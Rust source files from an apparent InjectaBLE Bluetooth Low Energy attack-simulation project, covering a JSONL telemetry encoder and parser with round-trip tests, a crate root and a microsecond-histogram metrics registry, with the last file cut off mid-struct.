            let _ = write!(s, ",\"ch\":{channel},\"lead_ns\":{}", lead.as_nanos());
        }
        TelemetryEvent::HeuristicVerdict {
            verdict,
            attempts_total,
        } => {
            let _ = write!(
                s,
                ",\"verdict\":\"{}\",\"total\":{attempts_total}",
                verdict.as_str()
            );
        }
        TelemetryEvent::AnchorPrediction { error_us } => {
            let _ = write!(s, ",\"error_us\":{error_us}");
        }
        TelemetryEvent::IfsDelta { delta_us } => {
            let _ = write!(s, ",\"delta_us\":{delta_us}");
        }
        TelemetryEvent::Takeover { role } => {
            let _ = write!(s, ",\"role\":\"{}\"", role.as_str());
        }
        TelemetryEvent::DetectorAlert { kind, magnitude_us } => {
            let _ = write!(
                s,
                ",\"alert\":\"{}\",\"magnitude_us\":{magnitude_us}",
                kind.as_str()
            );
        }
        TelemetryEvent::PoolExhausted { client } => {
            let _ = write!(s, ",\"client\":{client}");
        }
        TelemetryEvent::SlotDenied => {}
        TelemetryEvent::ConnEstablished { handle } | TelemetryEvent::ConnReleased { handle } => {
            let _ = write!(s, ",\"handle\":{handle}");
        }
        TelemetryEvent::PoolHighWater { in_use } => {
            let _ = write!(s, ",\"in_use\":{in_use}");
        }
        TelemetryEvent::FaultBurst {
            channel,
            power_dbm,
            active,
        } => {
            let _ = write!(
                s,
                ",\"ch\":{channel},\"power_dbm\":{power_dbm},\"active\":{active}"
            );
        }
        TelemetryEvent::FaultEpisode {
            kind,
            magnitude,
            active,
        } => {
            let _ = write!(
                s,
                ",\"fault\":\"{}\",\"magnitude\":{magnitude},\"active\":{active}",
                kind.as_str()
            );
        }
        TelemetryEvent::FaultFrame { kind, channel } => {
            let _ = write!(s, ",\"fault\":\"{}\",\"ch\":{channel}", kind.as_str());
        }
        TelemetryEvent::SpanEnter { id, kind, detail } => {
            let _ = write!(
                s,
                ",\"span\":\"{}\",\"id\":{id},\"detail\":{detail}",
                kind.as_str()
            );
        }
        TelemetryEvent::SpanExit {
            id,
            kind,
            detail,
            sim_ns,
            wall_ns,
            self_sim_ns,
            self_wall_ns,
        } => {
            let _ = write!(
                s,
                ",\"span\":\"{}\",\"id\":{id},\"detail\":{detail},\"sim_ns\":{sim_ns},\"wall_ns\":{wall_ns},\"self_sim_ns\":{self_sim_ns},\"self_wall_ns\":{self_wall_ns}",
                kind.as_str()
            );
        }
        TelemetryEvent::Raw { tag, detail } => {
            push_str_field(&mut s, "tag", tag);
            push_str_field(&mut s, "detail", detail);
        }
    }
    s.push('}');
    s
}

// ---------------------------------------------------------------------
// decoding (minimal flat-object JSON parser)
// ---------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq)]
enum Field {
    Str(String),
    Num(String),
    Bool(bool),
}

struct Cursor<'a> {
    it: Peekable<Chars<'a>>,
}

impl<'a> Cursor<'a> {
    fn new(s: &'a str) -> Self {
        Cursor {
            it: s.chars().peekable(),
        }
    }

    fn skip_ws(&mut self) {
        while self.it.peek().is_some_and(|c| c.is_ascii_whitespace()) {
            self.it.next();
        }
    }

    fn eat(&mut self, want: char) -> bool {
        self.skip_ws();
        if self.it.peek() == Some(&want) {
            self.it.next();
            true
        } else {
            false
        }
    }

    fn parse_string(&mut self) -> Option<String> {
        if !self.eat('"') {
            return None;
        }
        let mut out = String::new();
        loop {
            match self.it.next()? {
                '"' => return Some(out),
                '\\' => match self.it.next()? {
                    '"' => out.push('"'),
                    '\\' => out.push('\\'),
                    '/' => out.push('/'),
                    'n' => out.push('\n'),
                    'r' => out.push('\r'),
                    't' => out.push('\t'),
                    'u' => {
                        let mut hex = String::new();
                        for _ in 0..4 {
                            hex.push(self.it.next()?);
                        }
                        let code = u32::from_str_radix(&hex, 16).ok()?;
                        out.push(char::from_u32(code)?);
                    }
                    _ => return None,
                },
                c => out.push(c),
            }
        }
    }

    fn parse_value(&mut self) -> Option<Field> {
        self.skip_ws();
        match self.it.peek()? {
            '"' => self.parse_string().map(Field::Str),
            't' | 'f' => {
                let mut word = String::new();
                while self.it.peek().is_some_and(|c| c.is_ascii_alphabetic()) {
                    word.extend(self.it.next());
                }
                match word.as_str() {
                    "true" => Some(Field::Bool(true)),
                    "false" => Some(Field::Bool(false)),
                    _ => None,
                }
            }
            _ => {
                let mut num = String::new();
                while self
                    .it
                    .peek()
                    .is_some_and(|c| c.is_ascii_digit() || matches!(c, '-' | '+' | '.' | 'e' | 'E'))
                {
                    num.extend(self.it.next());
                }
                if num.is_empty() {
                    None
                } else {
                    Some(Field::Num(num))
                }
            }
        }
    }
}

fn parse_object(line: &str) -> Option<Vec<(String, Field)>> {
    let mut cur = Cursor::new(line);
    if !cur.eat('{') {
        return None;
    }
    let mut fields = Vec::new();
    if cur.eat('}') {
        return Some(fields);
    }
    loop {
        cur.skip_ws();
        let key = cur.parse_string()?;
        if !cur.eat(':') {
            return None;
        }
        let value = cur.parse_value()?;
        fields.push((key, value));
        if cur.eat(',') {
            continue;
        }
        if cur.eat('}') {
            return Some(fields);
        }
        return None;
    }
}

fn get<'a>(fields: &'a [(String, Field)], key: &str) -> Option<&'a Field> {
    fields.iter().find(|(k, _)| k == key).map(|(_, v)| v)
}

fn get_str<'a>(fields: &'a [(String, Field)], key: &str) -> Option<&'a str> {
    match get(fields, key)? {
        Field::Str(s) => Some(s),
        Field::Num(_) | Field::Bool(_) => None,
    }
}

fn get_num<T: std::str::FromStr>(fields: &[(String, Field)], key: &str) -> Option<T> {
    match get(fields, key)? {
        Field::Num(n) => n.parse().ok(),
        Field::Str(_) | Field::Bool(_) => None,
    }
}

fn get_bool(fields: &[(String, Field)], key: &str) -> Option<bool> {
    match get(fields, key)? {
        Field::Bool(b) => Some(*b),
        Field::Str(_) | Field::Num(_) => None,
    }
}

/// Decodes one JSONL line back into a record. Exact inverse of [`to_line`];
/// returns `None` on malformed input or an unknown `kind`.
pub fn parse_line(line: &str) -> Option<TelemetryRecord> {
    let fields = parse_object(line)?;
    let at = Instant::from_nanos(get_num(&fields, "t_ns")?);
    let node: Option<u32> = get_num(&fields, "node");
    let kind = get_str(&fields, "kind")?;
    let event = match kind {
        "node" => TelemetryEvent::NodeAdded {
            label: get_str(&fields, "label")?.to_owned(),
        },
        "tx-start" => TelemetryEvent::TxStart {
            channel: get_num(&fields, "ch")?,
            access_address: get_num(&fields, "aa")?,
            pdu_len: get_num(&fields, "len")?,
            end: Instant::from_nanos(get_num(&fields, "end_ns")?),
        },
        "tx-end" => TelemetryEvent::TxEnd,
        "rx-lock" => TelemetryEvent::RxLock {
            channel: get_num(&fields, "ch")?,
        },
        "relock" => TelemetryEvent::Relock {
            channel: get_num(&fields, "ch")?,
        },
        "rx-end" => TelemetryEvent::RxEnd {
            channel: get_num(&fields, "ch")?,
            access_address: get_num(&fields, "aa")?,
            crc_ok: get_bool(&fields, "crc_ok")?,
            interferers: get_num(&fields, "interferers")?,
        },
        "collision" => TelemetryEvent::Collision {
            channel: get_num(&fields, "ch")?,
            interferers: get_num(&fields, "interferers")?,
        },
        "interference-spill" => TelemetryEvent::InterferenceSpill {
            channel: get_num(&fields, "ch")?,
        },
        "anchor" => TelemetryEvent::Anchor {
            role: LinkRole::parse(get_str(&fields, "role")?)?,
            channel: get_num(&fields, "ch")?,
            at: Instant::from_nanos(get_num(&fields, "at_ns")?),
        },
        "window-open" => TelemetryEvent::WindowOpen {
            channel: get_num(&fields, "ch")?,
            widening: Duration::from_nanos(get_num(&fields, "widening_ns")?),
            deadline: Duration::from_nanos(get_num(&fields, "deadline_ns")?),
        },
        "hop" => TelemetryEvent::Hop {
            channel: get_num(&fields, "ch")?,
            event_counter: get_num(&fields, "ev")?,
        },
        "sn-nesn" => TelemetryEvent::SnNesn {
            role: LinkRole::parse(get_str(&fields, "role")?)?,
            sn: get_bool(&fields, "sn")?,
            nesn: get_bool(&fields, "nesn")?,
        },
        "crc-fail" => TelemetryEvent::CrcFail {
            channel: get_num(&fields, "ch")?,
        },
        "ll-control" => TelemetryEvent::LlControl {
            opcode: get_num(&fields, "opcode")?,
        },
        "connected" => TelemetryEvent::ConnectionEstablished {
            access_address: get_num(&fields, "aa")?,
            interval: Duration::from_nanos(get_num(&fields, "interval_ns")?),
        },
        "disconnect" => TelemetryEvent::ConnectionClosed {
            reason: get_num(&fields, "reason")?,
        },
        "sniff-sync" => TelemetryEvent::SnifferSync {
            access_address: get_num(&fields, "aa")?,
        },
        "sniff-lost" => TelemetryEvent::SnifferLost {
            reason: LossReason::parse(get_str(&fields, "reason")?)?,
        },
        "inject" => TelemetryEvent::InjectionAttempt {
            channel: get_num(&fields, "ch")?,
            lead: Duration::from_nanos(get_num(&fields, "lead_ns")?),
        },
        "inject-outcome" => TelemetryEvent::HeuristicVerdict {
            verdict: Verdict::parse(get_str(&fields, "verdict")?)?,
            attempts_total: get_num(&fields, "total")?,
        },
        "anchor-error" => TelemetryEvent::AnchorPrediction {
            error_us: get_num(&fields, "error_us")?,
        },
        "ifs-delta" => TelemetryEvent::IfsDelta {
            delta_us: get_num(&fields, "delta_us")?,
        },
        "takeover" => TelemetryEvent::Takeover {
            role: LinkRole::parse(get_str(&fields, "role")?)?,
        },
        "alert" => TelemetryEvent::DetectorAlert {
            kind: AlertKind::parse(get_str(&fields, "alert")?)?,
            magnitude_us: get_num(&fields, "magnitude_us")?,
        },
        "pool-exhausted" => TelemetryEvent::PoolExhausted {
            client: get_num(&fields, "client")?,
        },
        "slot-denied" => TelemetryEvent::SlotDenied,
        "conn-established" => TelemetryEvent::ConnEstablished {
            handle: get_num(&fields, "handle")?,
        },
        "conn-released" => TelemetryEvent::ConnReleased {
            handle: get_num(&fields, "handle")?,
        },
        "pool-high-water" => TelemetryEvent::PoolHighWater {
            in_use: get_num(&fields, "in_use")?,
        },
        "fault-burst" => TelemetryEvent::FaultBurst {
            channel: get_num(&fields, "ch")?,
            power_dbm: get_num(&fields, "power_dbm")?,
            active: get_bool(&fields, "active")?,
        },
        "fault-episode" => TelemetryEvent::FaultEpisode {
            kind: FaultKind::parse(get_str(&fields, "fault")?)?,
            magnitude: get_num(&fields, "magnitude")?,
            active: get_bool(&fields, "active")?,
        },
        "fault-frame" => TelemetryEvent::FaultFrame {
            kind: FaultKind::parse(get_str(&fields, "fault")?)?,
            channel: get_num(&fields, "ch")?,
        },
        "span-enter" => TelemetryEvent::SpanEnter {
            id: get_num(&fields, "id")?,
            kind: SpanKind::parse(get_str(&fields, "span")?)?,
            detail: get_num(&fields, "detail")?,
        },
        "span-exit" => TelemetryEvent::SpanExit {
            id: get_num(&fields, "id")?,
            kind: SpanKind::parse(get_str(&fields, "span")?)?,
            detail: get_num(&fields, "detail")?,
            sim_ns: get_num(&fields, "sim_ns")?,
            wall_ns: get_num(&fields, "wall_ns")?,
            self_sim_ns: get_num(&fields, "self_sim_ns")?,
            self_wall_ns: get_num(&fields, "self_wall_ns")?,
        },
        "raw" => TelemetryEvent::Raw {
            tag: get_str(&fields, "tag")?.to_owned(),
            detail: get_str(&fields, "detail")?.to_owned(),
        },
        _ => return None,
    };
    Some(TelemetryRecord { at, node, event })
}

// ---------------------------------------------------------------------
// the sink
// ---------------------------------------------------------------------

/// Streams records as JSON lines to any [`io::Write`].
///
/// Write errors are sticky: after the first failure the sink goes quiet
/// rather than panicking on the simulation hot path (check
/// [`JsonlSink::is_failed`] after the run).
pub struct JsonlSink {
    out: Box<dyn Write + Send>,
    lines: u64,
    failed: bool,
}

impl std::fmt::Debug for JsonlSink {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("JsonlSink")
            .field("lines", &self.lines)
            .field("failed", &self.failed)
            .finish()
    }
}

impl JsonlSink {
    /// Creates (truncates) the file at `path`, creating parent directories
    /// as needed, and buffers writes to it.
    pub fn create(path: impl AsRef<Path>) -> io::Result<Self> {
        let path = path.as_ref();
        if let Some(parent) = path.parent() {
            if !parent.as_os_str().is_empty() {
                fs::create_dir_all(parent)?;
            }
        }
        let file = fs::File::create(path)?;
        Ok(JsonlSink::from_writer(Box::new(io::BufWriter::new(file))))
    }

    /// Wraps an arbitrary writer (e.g. a `Vec<u8>` in tests).
    pub fn from_writer(out: Box<dyn Write + Send>) -> Self {
        JsonlSink {
            out,
            lines: 0,
            failed: false,
        }
    }

    /// Lines successfully written so far.
    pub fn lines_written(&self) -> u64 {
        self.lines
    }

    /// Whether a write error has silenced the sink.
    pub fn is_failed(&self) -> bool {
        self.failed
    }
}

impl TelemetrySink for JsonlSink {
    fn emit(&mut self, record: &TelemetryRecord) {
        if self.failed {
            return;
        }
        let line = to_line(record);
        if writeln!(self.out, "{line}").is_err() {
            self.failed = true;
        } else {
            self.lines = self.lines.saturating_add(1);
        }
    }

    fn flush(&mut self) {
        if self.out.flush().is_err() {
            self.failed = true;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(record: &TelemetryRecord) {
        let line = to_line(record);
        let back = parse_line(&line).unwrap_or_else(|| panic!("unparseable: {line}"));
        assert_eq!(&back, record, "line was: {line}");
    }

    #[test]
    fn every_variant_round_trips() {
        let events = vec![
            TelemetryEvent::NodeAdded {
                label: "attacker".into(),
            },
            TelemetryEvent::TxStart {
                channel: 17,
                access_address: 0x8E89_BED6,
                pdu_len: 27,
                end: Instant::from_nanos(1_234_567),
            },
            TelemetryEvent::TxEnd,
            TelemetryEvent::RxLock { channel: 5 },
            TelemetryEvent::Relock { channel: 6 },
            TelemetryEvent::RxEnd {
                channel: 7,
                access_address: 0x1234_5678,
                crc_ok: false,
                interferers: 2,
            },
            TelemetryEvent::Collision {
                channel: 8,
                interferers: 3,
            },
            TelemetryEvent::InterferenceSpill { channel: 11 },
            TelemetryEvent::Anchor {
                role: LinkRole::Master,
                channel: 9,
                at: Instant::from_nanos(999),
            },
            TelemetryEvent::WindowOpen {
                channel: 10,
                widening: Duration::from_nanos(32_500),
                deadline: Duration::from_micros(1_250),
            },
            TelemetryEvent::Hop {
                channel: 11,
                event_counter: 65_535,
            },
            TelemetryEvent::SnNesn {
                role: LinkRole::Slave,
                sn: true,
                nesn: false,
            },
            TelemetryEvent::CrcFail { channel: 12 },
            TelemetryEvent::LlControl { opcode: 0x02 },
            TelemetryEvent::ConnectionEstablished {
                access_address: 0xDEAD_BEEF,
                interval: Duration::from_micros(45_000),
            },
            TelemetryEvent::ConnectionClosed { reason: 0x08 },
            TelemetryEvent::SnifferSync {
                access_address: 0xAB_CDEF,
            },
            TelemetryEvent::SnifferLost {
                reason: LossReason::MissedEvents,
            },
            TelemetryEvent::InjectionAttempt {
                channel: 13,
                lead: Duration::from_nanos(41_250),
            },
            TelemetryEvent::HeuristicVerdict {
                verdict: Verdict::Rejected,
                attempts_total: 42,
            },
            TelemetryEvent::AnchorPrediction { error_us: -3.125 },
            TelemetryEvent::IfsDelta {
                delta_us: 0.017_578_125,
            },
            TelemetryEvent::Takeover {
                role: LinkRole::Master,
            },
            TelemetryEvent::DetectorAlert {
                kind: AlertKind::EarlyAnchor,
                magnitude_us: 87.5,
            },
            TelemetryEvent::PoolExhausted { client: 3 },
            TelemetryEvent::SlotDenied,
            TelemetryEvent::ConnEstablished { handle: 0x0102 },
            TelemetryEvent::ConnReleased { handle: 0x0202 },
            TelemetryEvent::PoolHighWater { in_use: 17 },
            TelemetryEvent::FaultBurst {
                channel: 17,
                power_dbm: -32.5,
                active: true,
            },
            TelemetryEvent::FaultEpisode {
                kind: FaultKind::Drift,
                magnitude: 400.0,
                active: false,
            },
            TelemetryEvent::FaultFrame {
                kind: FaultKind::Loss,
                channel: 21,
            },
            TelemetryEvent::SpanEnter {
                id: 17,
                kind: SpanKind::AttackerInject,
                detail: 23,
            },
            TelemetryEvent::SpanExit {
                id: 17,
                kind: SpanKind::AttackerInject,
                detail: 23,
                sim_ns: 1_250_000,
                wall_ns: 431,
                self_sim_ns: 1_100_000,
                self_wall_ns: 399,
            },
            TelemetryEvent::Raw {
                tag: "legacy".into(),
                detail: "free-form".into(),
            },
        ];
        for (i, event) in events.into_iter().enumerate() {
            roundtrip(&TelemetryRecord {
                at: Instant::from_nanos(u64::try_from(i).unwrap() * 1_000_003),
                node: Some(u32::try_from(i % 3).unwrap()),
                event,
            });
        }
    }

    #[test]
    fn node_field_is_optional() {
        roundtrip(&TelemetryRecord {
            at: Instant::ZERO,
            node: None,
            event: TelemetryEvent::TxEnd,
        });
        let line = to_line(&TelemetryRecord {
            at: Instant::ZERO,
            node: None,
            event: TelemetryEvent::TxEnd,
        });
        assert!(!line.contains("\"node\""), "{line}");
    }

    #[test]
    fn string_escaping_round_trips() {
        roundtrip(&TelemetryRecord {
            at: Instant::from_nanos(7),
            node: Some(0),
            event: TelemetryEvent::Raw {
                tag: "weird".into(),
                detail: "quote \" backslash \\ newline \n tab \t bell \u{7}".into(),
            },
        });
    }

    #[test]
    fn malformed_lines_are_rejected() {
        assert_eq!(parse_line(""), None);
        assert_eq!(parse_line("not json"), None);
        assert_eq!(parse_line("{\"t_ns\":1}"), None); // no kind
        assert_eq!(parse_line("{\"t_ns\":1,\"kind\":\"martian\"}"), None);
        assert_eq!(
            parse_line("{\"t_ns\":1,\"kind\":\"rx-lock\"}"), // missing ch
            None
        );
        // Truncated line, as left by a killed process.
        assert_eq!(parse_line("{\"t_ns\":1,\"kind\":\"rx-lo"), None);
    }

    #[test]
    fn sink_writes_parseable_lines() {
        use std::sync::{Arc, Mutex};

        #[derive(Clone)]
        struct Shared(Arc<Mutex<Vec<u8>>>);
        impl Write for Shared {
            fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
                self.0.lock().unwrap().extend_from_slice(buf);
                Ok(buf.len())
            }
            fn flush(&mut self) -> io::Result<()> {
                Ok(())
            }
        }

        let shared = Shared(Arc::new(Mutex::new(Vec::new())));
        let mut sink = JsonlSink::from_writer(Box::new(shared.clone()));
        for i in 0..4u64 {
            sink.emit(&TelemetryRecord {
                at: Instant::from_nanos(i),
                node: Some(1),
                event: TelemetryEvent::RxLock { channel: 3 },
            });
        }
        sink.flush();
        assert_eq!(sink.lines_written(), 4);
        assert!(!sink.is_failed());
        let text = String::from_utf8(shared.0.lock().unwrap().clone()).unwrap();
        let parsed: Vec<_> = text.lines().map(|l| parse_line(l).unwrap()).collect();
        assert_eq!(parsed.len(), 4);
        assert!(parsed
            .iter()
            .all(|r| matches!(r.event, TelemetryEvent::RxLock { channel: 3 })));
    }

    #[test]
    fn write_errors_are_sticky_not_panicky() {
        struct Broken;
        impl Write for Broken {
            fn write(&mut self, _buf: &[u8]) -> io::Result<usize> {
                Err(io::Error::other("disk on fire"))
            }
            fn flush(&mut self) -> io::Result<()> {
                Err(io::Error::other("still on fire"))
            }
        }
        let mut sink = JsonlSink::from_writer(Box::new(Broken));
        sink.emit(&TelemetryRecord {
            at: Instant::ZERO,
            node: None,
            event: TelemetryEvent::TxEnd,
        });
        assert!(sink.is_failed());
        assert_eq!(sink.lines_written(), 0);
        sink.emit(&TelemetryRecord {
            at: Instant::ZERO,
            node: None,
            event: TelemetryEvent::TxEnd,
        });
        assert_eq!(sink.lines_written(), 0);
    }
}
