//! Structured telemetry for the InjectaBLE simulation stack.
//!
//! The paper's contribution is µs-scale timing behaviour — window widening
//! (eq. 5), the injection-point race, and the §VIII detector that keys on
//! inter-frame timing. This crate replaces the stringly-typed
//! [`simkit::Trace`] log with a typed event vocabulary ([`TelemetryEvent`]),
//! a sink abstraction ([`TelemetrySink`]), and three shipping sinks:
//!
//! - [`RingBufferSink`] — a bounded in-memory ring for test assertions;
//! - [`JsonlSink`] — one JSON object per line, for offline analysis and the
//!   `timeline` renderer in the bench crate;
//! - [`MetricsSink`] — counters, gauges and fixed-bucket microsecond
//!   histograms in a [`MetricsRegistry`] (injection lead time, anchor
//!   prediction error, IFS deltas).
//!
//! Telemetry is **zero-cost when disabled**: emit sites take a closure, and
//! the dispatcher ([`Telemetry`]) returns before building the event when no
//! sink is attached. The bench crate's `telemetry` microbenchmark verifies
//! the disabled path is a branch-and-return.

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![cfg_attr(
    test,
    allow(
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::panic,
        clippy::cast_possible_truncation
    )
)]

pub mod delivery;
pub mod event;
pub mod jsonl;
pub mod metrics;
pub mod ring;
pub mod sink;
pub mod span;

pub use delivery::{DeliveryTotals, DeliveryTracker, PacketDelivery};
pub use event::{AlertKind, FaultKind, LinkRole, LossReason, TelemetryEvent, Verdict};
pub use jsonl::{parse_line, JsonlSink};
pub use metrics::{HistSummary, HistogramUs, MetricsRegistry, MetricsSink, SharedRegistry};
pub use ring::{RingBuffer, RingBufferSink, SharedRing};
pub use sink::{Telemetry, TelemetryRecord, TelemetrySink};
pub use span::{ClosedSpan, SpanId, SpanKind, SpanMetricNames};
