//! Counters, gauges and fixed-bucket microsecond histograms.
//!
//! The registry is deliberately tiny — a `BTreeMap` per metric family keyed
//! by `&'static str` — because trials are single-threaded and short-lived;
//! the bench rig merges per-trial registries into its `SeriesReport`
//! artefacts afterwards.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use crate::event::TelemetryEvent;
use crate::sink::{TelemetryRecord, TelemetrySink};
use crate::span::SpanKind;

/// Default histogram bucket upper bounds, in microseconds. Chosen around
/// the paper's timing scales: sub-µs clock error, the ±5 µs heuristic
/// tolerance, 150 µs IFS, ms-scale connection intervals.
pub const DEFAULT_BOUNDS_US: [f64; 16] = [
    0.5, 1.0, 2.0, 5.0, 10.0, 20.0, 50.0, 100.0, 200.0, 500.0, 1_000.0, 2_000.0, 5_000.0, 10_000.0,
    20_000.0, 50_000.0,
];

/// A fixed-bucket histogram of microsecond *magnitudes*.
///
/// Signed inputs (anchor error, IFS delta) are recorded as `|v|`; the
/// histogram answers "how large are the timing deviations", not their sign
/// (the signed values are still available per-event in a JSONL trace).
#[derive(Debug, Clone, PartialEq)]
pub struct HistogramUs {
    bounds: Vec<f64>,
    /// One count per bound, plus a final overflow bucket.
    counts: Vec<u64>,
    count: u64,
    sum: f64,
    min: f64,
    max: f64,
}

impl Default for HistogramUs {
    fn default() -> Self {
        HistogramUs::with_bounds(&DEFAULT_BOUNDS_US)
    }
}

/// Summary statistics extracted from a [`HistogramUs`].
///
/// Quantiles are upper-bound estimates: the bucket boundary at or above the
/// requested rank (exact for values landing on boundaries).
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct HistSummary {
    /// Number of recorded values.
    pub count: u64,
    /// Exact mean of the recorded magnitudes.
    pub mean: f64,
    /// Median estimate (bucket upper bound).
    pub p50: f64,
    /// 90th-percentile estimate.
    pub p90: f64,
    /// 95th-percentile estimate.
    pub p95: f64,
    /// 99th-percentile estimate.
    pub p99: f64,
    /// Exact smallest recorded magnitude.
    pub min: f64,
    /// Exact largest recorded magnitude.
    pub max: f64,
}

impl HistogramUs {
    /// A histogram with the given ascending bucket upper bounds.
    pub fn with_bounds(bounds: &[f64]) -> Self {
        let counts = vec![0; bounds.len().saturating_add(1)];
        HistogramUs {
            bounds: bounds.to_vec(),
            counts,
            count: 0,
            sum: 0.0,
            min: f64::INFINITY,
            max: 0.0,
        }
    }

    /// Records one value (magnitude is taken; see the type docs).
    pub fn record(&mut self, value_us: f64) {
        let v = value_us.abs();
        if !v.is_finite() {
            return;
        }
        self.count = self.count.saturating_add(1);
        self.sum += v;
        self.min = self.min.min(v);
        self.max = self.max.max(v);
        let slot = self
            .bounds
            .iter()
            .position(|b| v <= *b)
            .unwrap_or(self.bounds.len());
        if let Some(c) = self.counts.get_mut(slot) {
            *c = c.saturating_add(1);
        }
    }

    /// Number of recorded values.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Whether nothing has been recorded yet.
    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Per-bucket counts (last entry is the overflow bucket).
    pub fn bucket_counts(&self) -> &[u64] {
        &self.counts
    }

    /// Bucket upper bounds.
    pub fn bounds(&self) -> &[f64] {
        &self.bounds
    }

    /// Exact sum of recorded magnitudes.
    pub fn sum(&self) -> f64 {
        self.sum
    }

    /// Exact smallest recorded magnitude (`+inf` when empty).
    pub fn min_value(&self) -> f64 {
        self.min
    }

    /// Exact largest recorded magnitude (0 when empty).
    pub fn max_value(&self) -> f64 {
        self.max
    }

    /// Rebuilds a histogram from previously-extracted parts (the campaign
    /// checkpoint round-trip). Returns `None` when the shape is inconsistent
    /// (`counts` must be one longer than `bounds` for the overflow bucket,
    /// and the per-bucket counts must total `count`).
    pub fn from_parts(
        bounds: Vec<f64>,
        counts: Vec<u64>,
        count: u64,
        sum: f64,
        min: f64,
        max: f64,
    ) -> Option<Self> {
        if counts.len() != bounds.len().saturating_add(1) {
            return None;
        }
        let mut total = 0u64;
        for c in &counts {
            total = total.saturating_add(*c);
        }
        if total != count {
            return None;
        }
        Some(HistogramUs {
            bounds,
            counts,
            count,
            sum,
            min,
            max,
        })
    }

    /// Upper-bound quantile estimate: the first bucket boundary at which the
    /// cumulative count reaches `q` of the total (the exact maximum for the
    /// overflow bucket). Returns 0 for an empty histogram.
    pub fn quantile(&self, q: f64) -> f64 {
        if self.count == 0 {
            return 0.0;
        }
        let target = (q.clamp(0.0, 1.0) * self.count as f64).ceil().max(1.0);
        let mut cum = 0u64;
        for (i, c) in self.counts.iter().enumerate() {
            cum = cum.saturating_add(*c);
            if cum as f64 >= target {
                return match self.bounds.get(i) {
                    Some(b) => *b,
                    None => self.max,
                };
            }
        }
        self.max
    }

    /// Resets all recorded values, keeping the bucket layout.
    pub fn clear(&mut self) {
        for c in &mut self.counts {
            *c = 0;
        }
        self.count = 0;
        self.sum = 0.0;
        self.min = f64::INFINITY;
        self.max = 0.0;
    }

    /// Folds another histogram into this one. Returns `false` (and leaves
    /// `self` untouched) when the bucket layouts differ.
    pub fn merge(&mut self, other: &HistogramUs) -> bool {
        if self.bounds != other.bounds {
            return false;
        }
        for (mine, theirs) in self.counts.iter_mut().zip(other.counts.iter()) {
            *mine = mine.saturating_add(*theirs);
        }
        self.count = self.count.saturating_add(other.count);
        self.sum += other.sum;
        self.min = self.min.min(other.min);
        self.max = self.max.max(other.max);
        true
    }

    /// Summary statistics (zeros when empty).
    pub fn summary(&self) -> HistSummary {
        if self.count == 0 {
            return HistSummary::default();
        }
        HistSummary {
            count: self.count,
            mean: self.sum / self.count as f64,
            p50: self.quantile(0.50),
            p90: self.quantile(0.90),
            p95: self.quantile(0.95),
            p99: self.quantile(0.99),
            min: self.min,
            max: self.max,
        }
    }
}

/// Registry of named counters, gauges and histograms.
#[derive(Debug, Clone, Default)]
pub struct MetricsRegistry {
    counters: BTreeMap<&'static str, u64>,
    gauges: BTreeMap<&'static str, f64>,
    histograms: BTreeMap<&'static str, HistogramUs>,
}

/// Shared handle to a registry (the simulation owns the [`MetricsSink`];
/// the caller keeps the handle). Thread-safe so that a world carrying the
/// sink stays [`Send`].
#[derive(Debug, Clone, Default)]
pub struct SharedRegistry(Arc<Mutex<MetricsRegistry>>);

impl SharedRegistry {
    /// Locks the registry for reading or writing. Lock poisoning is
    /// recovered (`into_inner`): metrics are observation-only state, and
    /// the worst a panicking writer leaves behind is one missing update.
    pub fn lock(&self) -> MutexGuard<'_, MetricsRegistry> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

impl MetricsRegistry {
    /// An empty registry.
    pub fn new() -> Self {
        Self::default()
    }

    /// An empty registry behind a shared handle.
    pub fn shared() -> SharedRegistry {
        SharedRegistry(Arc::new(Mutex::new(Self::new())))
    }

    /// Increments a counter by one.
    pub fn inc(&mut self, name: &'static str) {
        self.add(name, 1);
    }

    /// Increments a counter by `n` (saturating).
    pub fn add(&mut self, name: &'static str, n: u64) {
        let c = self.counters.entry(name).or_insert(0);
        *c = c.saturating_add(n);
    }

    /// Current counter value (0 if never incremented).
    pub fn counter(&self, name: &str) -> u64 {
        self.counters.get(name).copied().unwrap_or(0)
    }

    /// Sets a gauge to the latest value.
    pub fn set_gauge(&mut self, name: &'static str, value: f64) {
        self.gauges.insert(name, value);
    }

    /// Current gauge value, if ever set.
    pub fn gauge(&self, name: &str) -> Option<f64> {
        self.gauges.get(name).copied()
    }

    /// Records a microsecond observation into a named histogram (created
    /// with the default buckets on first use).
    pub fn observe_us(&mut self, name: &'static str, value_us: f64) {
        self.histograms.entry(name).or_default().record(value_us);
    }

    /// A named histogram, if any observation was recorded.
    pub fn histogram(&self, name: &str) -> Option<&HistogramUs> {
        self.histograms.get(name)
    }

    /// Iterates counters in name order.
    pub fn counters(&self) -> impl Iterator<Item = (&'static str, u64)> + '_ {
        self.counters.iter().map(|(k, v)| (*k, *v))
    }

    /// Iterates gauges in name order.
    pub fn gauges(&self) -> impl Iterator<Item = (&'static str, f64)> + '_ {
        self.gauges.iter().map(|(k, v)| (*k, *v))
    }

    /// Iterates histograms in name order.
    pub fn histograms(&self) -> impl Iterator<Item = (&'static str, &HistogramUs)> + '_ {
        self.histograms.iter().map(|(k, v)| (*k, v))
    }

    /// Folds another registry into this one: counters add, gauges take the
    /// other's value, histograms merge (skipping incompatible layouts).
    pub fn merge(&mut self, other: &MetricsRegistry) {
        for (name, n) in other.counters() {
            self.add(name, n);
        }
        for (name, v) in other.gauges() {
            self.set_gauge(name, v);
        }
        for (name, h) in other.histograms() {
            self.histograms.entry(name).or_default().merge(h);
        }
    }
}

/// Per-event tallies buffered in plain fields so that `emit` touches no
/// lock and no map. [`MetricsSink::fold_into_registry`] drains them into
/// the shared registry.
#[derive(Debug, Default)]
struct HotTallies {
    events: u64,
    last_event_us: f64,
    nodes: u64,
    tx: u64,
    rx_lock: u64,
    relock: u64,
    rx: u64,
    rx_crc_bad: u64,
    collision: u64,
    interference_spill: u64,
    anchor: u64,
    window_open: u64,
    hop: u64,
